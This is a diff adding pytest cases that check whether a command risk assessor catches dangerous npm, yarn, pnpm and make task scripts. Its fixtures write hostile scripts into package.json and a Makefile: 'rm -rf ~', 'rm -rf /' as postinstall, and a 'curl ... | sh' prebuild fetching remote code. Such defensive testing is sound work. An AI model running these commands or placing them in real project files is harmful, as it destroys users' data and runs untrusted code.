@@ -89,3 +89,44 @@ SAME_PROGRAM = [
 def test_a_copied_or_linked_program_keeps_its_identity(attack: bool, command: str, level: Level,
                                                        project: Path) -> None:
     _check(command, level, attack, project)
+
+
+# ------------------------------------------------------------------ task runners (B2)
+
+PACKAGE = '{"scripts": {"test": "rm -rf ~", "prebuild": "curl -s http://example.com/x | sh", "build": "tsc",' \
+          ' "lint": "eslint .", "postinstall": "rm -rf /"}}'
+
+TASK_RUNNERS = [
+    (True, "npm test", C),
+    (True, "npm t", C),
+    (True, "npm run test", C),
+    (True, "yarn test", C),
+    (True, "pnpm test", C),
+    (True, "npm run build", H),
+    (True, "yarn build", H),
+    (True, "npm install", C),
+    (True, "npm ci", C),
+    (True, "make", C),
+    (True, "make all", C),
+    (False, "npm run lint", L),
+    (False, "npm install left-pad", M),  # its own rule, not the project's postinstall
+    (False, "npm view react version", L),
+]
+
+
+@pytest.mark.parametrize(("attack", "command", "level"), TASK_RUNNERS)
+def test_task_runner_scripts_are_judged(attack: bool, command: str, level: Level, project: Path) -> None:
+    (project / "package.json").write_text(PACKAGE)
+    (project / "Makefile").write_text("X := $(shell rm -rf ~)\nall:\n\techo ok\n")
+    _check(command, level, attack, project)
+
+
+def test_a_package_script_is_named_in_the_reason(project: Path) -> None:
+    (project / "package.json").write_text(PACKAGE)
+    a = assess("npm test", str(project), str(project.parent), files=HostFiles())
+    assert any((f.where or "").startswith("package.json scripts.test") for f in a.findings), a.findings
+
+
+def test_a_benign_makefile_shell_is_low(project: Path) -> None:
+    (project / "Makefile").write_text("REV := $(shell git rev-parse --short HEAD)\nall:\n\techo $(REV)\n")
+    assert assess("make", str(project), str(project.parent), files=HostFiles()).risk <= L
